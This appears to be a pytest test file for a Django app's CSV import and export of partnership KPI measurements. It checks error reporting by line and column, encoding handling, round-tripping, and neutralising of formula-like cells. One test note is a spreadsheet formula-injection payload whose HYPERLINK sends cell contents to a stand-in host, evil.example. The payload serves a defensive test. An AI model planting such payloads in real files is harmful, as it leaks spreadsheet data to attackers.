"""CSV import is all or nothing, with every problem by line and column; the export imports back."""

import csv
import datetime
import io
from decimal import Decimal as D

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from partnerships.models import Activity
from reviews import services
from reviews.models import Measurement

from ..downloads import FORMULAS, download, inert
from ..factories import manager
from ..objectives.factories import ObjectiveFactory
from .conftest import months_ago
from .factories import KPIFactory, MeasurementFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def kpis(bobs_partnership):
    return (
        KPIFactory(partnership=bobs_partnership, name="On-time delivery"),
        KPIFactory(
            partnership=bobs_partnership,
            name="Cost per order",
            unit="€",
            direction="lower",
            baseline=D("6.40"),
            target=D("4.80"),
            red_flag=D("6"),
            frequency="quarterly",
        ),
    )


def csv_bytes(*lines: str) -> bytes:
    return ("\n".join(lines) + "\n").encode()


def test_a_valid_file_imports_every_row_normalising_periods(bobs_partnership, bob, kpis):
    ontime, cost = kpis
    data = csv_bytes(
        "KPI,Period,Value,Note",
        "On-time delivery,2025-01,91.5,",
        "on-time DELIVERY,2025-02-17,92,late trucks",
        "Cost per order,2025-Q1,5.10,",
        "Cost per order,Q2 2025,4.95,",
    )
    created = services.measurements_import(
        partnership=bobs_partnership, by=bob, data=data, filename="q.csv"
    )
    assert len(created) == 4
    assert list(ontime.measurements.order_by("period").values_list("period", "value", "note")) == [
        (datetime.date(2025, 1, 1), D("91.5"), ""),
        (datetime.date(2025, 2, 1), D("92"), "late trucks"),
    ]
    assert list(cost.measurements.order_by("period").values_list("period", flat=True)) == [
        datetime.date(2025, 1, 1),
        datetime.date(2025, 4, 1),
    ]
    assert set(Measurement.objects.values_list("recorded_by", flat=True)) == {bob.pk}
    assert Activity.objects.get(kind="measurement").summary == "4 measurements imported from q.csv"


def test_one_bad_row_and_nothing_is_imported_every_problem_named_by_line_and_column(
    bobs_partnership, bob, kpis
):
    MeasurementFactory(kpi=kpis[0], period=datetime.date(2025, 3, 1))
    data = csv_bytes(
        "KPI,Period,Value,Note",
        "On-time delivery,2025-01,91.5,",
        "On-time delivery,2025-02,ninety,",
        "Shipments,2025-02,3,",
        "On-time delivery,March,90,",
        "On-time delivery,2025-01-20,93,",
        "On-time delivery,2025-03,93,",
        ",2025-04,,",
        "On-time delivery,2025-05,1e3,",
        'On-time delivery,2025-06,"1,000",',
    )
    with pytest.raises(services.ImportRefused) as refused:
        services.measurements_import(partnership=bobs_partnership, by=bob, data=data)
    assert [str(e) for e in refused.value.errors] == [
        "Line 3, column “Value”: “ninety” is not a number: write digits with a dot for "
        "decimals, such as 97.5, without thousands separators or units.",
        "Line 4, column “KPI”: This partnership has no KPI called “Shipments”.",
        "Line 5, column “Period”: “March” is not a period: write a date such as 2026-03-01, a "
        "month such as 2026-03 or a quarter such as 2026-Q1.",
        "Line 6, column “Period”: A second value for “On-time delivery”, Jan 2025 (line 2 has "
        "the first).",
        "Line 7, column “Period”: “On-time delivery” already has a measurement for Mar 2025.",
        "Line 8, column “KPI”: Name the KPI.",
        "Line 8, column “Value”: Give the value.",
        "Line 9, column “Value”: “1e3” is not a number: write digits with a dot for decimals, "
        "such as 97.5, without thousands separators or units.",
        "Line 10, column “Value”: “1,000” is not a number: write digits with a dot for "
        "decimals, such as 97.5, without thousands separators or units.",
    ]
    assert Measurement.objects.count() == 1
    assert not Activity.objects.filter(kind="measurement").exists()


def test_a_period_that_has_not_started_is_a_row_error(bobs_partnership, bob, kpis):
    future = datetime.date.today().replace(day=1) + datetime.timedelta(days=62)
    data = csv_bytes("KPI,Period,Value", f"On-time delivery,{future:%Y-%m},90")
    with pytest.raises(services.ImportRefused) as refused:
        services.measurements_import(partnership=bobs_partnership, by=bob, data=data)
    assert "has not started" in str(refused.value.errors[0])


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "The file is empty."),
        (b"KPI,Value\nOn-time delivery,90\n", "The header row lacks “Period”."),
        (b"KPI,Period,Value\n", "The file has a header but no measurements."),
        ("KPI,Period,Value\nOn-time délivery,2025-01,90\n".encode("latin-1"), "not UTF-8"),
    ],
)
def test_a_file_that_cannot_be_read_is_refused_with_a_clear_message(
    bobs_partnership, bob, kpis, data, message
):
    with pytest.raises(services.ImportRefused) as refused:
        services.measurements_import(partnership=bobs_partnership, by=bob, data=data)
    assert message in " ".join(str(e) for e in refused.value.errors)
    assert not Measurement.objects.exists()


def test_a_semicolon_file_with_a_byte_order_mark_is_read(bobs_partnership, bob, kpis):
    data = "\ufeffKPI;Period;Value\nOn-time delivery;2025-01;90\n".encode()
    assert len(services.measurements_import(partnership=bobs_partnership, by=bob, data=data)) == 1


def test_the_import_page_lists_row_errors_and_imports_nothing(client, bobs_partnership, bob, kpis):
    client.force_login(bob)
    upload = SimpleUploadedFile(
        "march.csv", csv_bytes("KPI,Period,Value", "On-time delivery,2025-03,abc"), "text/csv"
    )
    response = client.post(reverse("reviews:import", args=[bobs_partnership.pk]), {"file": upload})
    assert response.status_code == 200
    html = response.content.decode()
    assert "Nothing was imported from march.csv: 1 problem to fix first." in html
    assert "Line 2, column “Value”: “abc” is not a number" in html
    assert not Measurement.objects.exists()


def test_the_import_page_imports_a_good_file(client, bobs_partnership, bob, kpis):
    client.force_login(bob)
    upload = SimpleUploadedFile(
        "march.csv", csv_bytes("KPI,Period,Value", "On-time delivery,2025-03,97.5"), "text/csv"
    )
    response = client.post(
        reverse("reviews:import", args=[bobs_partnership.pk]), {"file": upload}, follow=True
    )
    assert "1 measurement imported." in response.content.decode()
    assert Measurement.objects.get().value == D("97.5")


def test_the_export_lists_every_kpi_and_measurement_and_imports_back(
    client, bobs_partnership, bob, alice, kpis
):
    ontime, _ = kpis
    MeasurementFactory(kpi=ontime, period=months_ago(2), value=D("90"), note="a, b")
    MeasurementFactory(kpi=ontime, period=months_ago(1), value=D("100"))
    client.force_login(bob)
    response = client.get(reverse("reviews:export", args=[bobs_partnership.pk]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content)
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert [(r["KPI"], r["Period"], r["Value"], r["Attainment %"], r["Status"]) for r in rows] == [
        ("Cost per order", "", "", "", ""),
        ("On-time delivery", months_ago(2).isoformat(), "90", "50", "Watch"),
        ("On-time delivery", months_ago(1).isoformat(), "100", "100", "On target"),
    ]
    assert rows[1]["Note"] == "a, b" and rows[1]["Direction"] == "Higher is better"
    # The same file imports back once its measurements are gone.
    Measurement.objects.all().delete()
    services.measurements_import(partnership=bobs_partnership, by=alice, data=body)
    assert Measurement.objects.count() == 2


def _export(client, partnership) -> tuple[bytes, list[dict[str, str]]]:
    body, rows = download(client.get(reverse("reviews:export", args=[partnership.pk])))
    return body, [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.mark.parametrize("formula", FORMULAS)
def test_every_text_cell_of_the_export_that_starts_like_a_formula_comes_out_inert(
    client, bobs_partnership, bob, formula
):
    kpi = KPIFactory(
        partnership=bobs_partnership,
        name=f"{formula} Délai",
        unit=f"{formula[:30]} €",
        owner=manager(full_name=f"{formula} Ömer"),
        objective=ObjectiveFactory(partnership=bobs_partnership, title=f"{formula} Coût"),
    )
    MeasurementFactory(
        kpi=kpi,
        period=months_ago(1),
        note=f"{formula} déjà vu",
        recorded_by=manager(full_name=f"{formula} Zoë"),
    )
    client.force_login(bob)
    _, (row,) = _export(client, bobs_partnership)
    assert row["KPI"] == inert(f"{formula} Délai")
    assert row["Unit"] == inert(f"{formula[:30]} €")
    assert row["Owner"] == inert(f"{formula} Ömer")
    assert row["Objective"] == inert(f"{formula} Coût")
    assert row["Note"] == inert(f"{formula} déjà vu")
    assert row["Recorded by"] == inert(f"{formula} Zoë")


def test_negative_numbers_come_out_as_numbers_not_quoted_text(client, bobs_partnership, bob):
    kpi = KPIFactory(
        partnership=bobs_partnership,
        name="Net margin",
        unit="pts",
        baseline=D("-10"),
        target=D("0"),
        red_flag=D("-8"),
    )
    MeasurementFactory(kpi=kpi, period=months_ago(2), value=D("-12"))
    MeasurementFactory(kpi=kpi, period=months_ago(1), value=D("-3.5"))
    client.force_login(bob)
    _, rows = _export(client, bobs_partnership)
    numbers = ("Baseline", "Target", "Red-flag threshold", "Value", "Attainment %")
    assert [tuple(r[c] for c in numbers) for r in rows] == [
        ("-10", "0", "-8", "-12", "-20"),
        ("-10", "0", "-8", "-3.5", "65"),
    ]


def test_an_export_imports_back_to_the_same_values_formulas_and_all(
    client, bobs_partnership, bob, alice
):
    margin = KPIFactory(
        partnership=bobs_partnership,
        name="=Net margin",
        unit="-pts",
        baseline=D("-10"),
        target=D("0"),
        red_flag=D("-8"),
    )
    delivery = KPIFactory(partnership=bobs_partnership, name="@Délai de livraison")
    plain = KPIFactory(partnership=bobs_partnership, name="Coût par commande")
    notes = [
        "=SUM(A1:A9)",
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1",
        "-3.5",
        "@here",
        "\t=1+1",
        "\r=1+1",
        "'=already quoted by hand",
        "'Tis déjà vu, ça",
        "",
    ]
    values = [D("-3.5"), D("-12"), D("0"), D("97.25"), D("-0.0001")]
    for i, note in enumerate(notes):
        kpi = [margin, delivery][i % 2]
        MeasurementFactory(kpi=kpi, period=months_ago(i // 2 + 1), value=values[i % 5], note=note)
    MeasurementFactory(kpi=plain, period=months_ago(1), value=D("-1"), note="plain")

    def measurements() -> list[tuple]:
        return sorted(
            Measurement.objects.filter(kpi__partnership=bobs_partnership).values_list(
                "kpi__name", "period", "value", "note"
            )
        )

    before = measurements()
    client.force_login(bob)
    body, rows = _export(client, bobs_partnership)
    assert {r["Note"] for r in rows} >= {"'=SUM(A1:A9)", "'-3.5", "''=already quoted by hand"}
    assert {r["Value"] for r in rows} == {"-3.5", "-12", "0", "97.25", "-0.0001", "-1"}
    Measurement.objects.all().delete()

    created = services.measurements_import(partnership=bobs_partnership, by=alice, data=body)

    assert len(created) == len(before) == 11
    assert measurements() == before
    assert Measurement.objects.get(kpi=margin, period=months_ago(1)).value == D("-3.5")
    assert Measurement.objects.get(kpi=margin, period=months_ago(1)).note == "=SUM(A1:A9)"


def test_the_import_takes_one_quote_off_only_before_a_formula_character(
    bobs_partnership, bob, kpis
):
    data = csv_bytes(
        "KPI,Period,Value,Note",
        f"On-time delivery,{months_ago(3):%Y-%m},'-3.5,'=A1",
        f"On-time delivery,{months_ago(2):%Y-%m},90,'Tis so",
        f"On-time delivery,{months_ago(1):%Y-%m},91,''@twice",
    )
    services.measurements_import(partnership=bobs_partnership, by=bob, data=data)
    assert list(Measurement.objects.order_by("period").values_list("value", "note")) == [
        (D("-3.5"), "=A1"),
        (D("90"), "'Tis so"),
        (D("91"), "'@twice"),
    ]
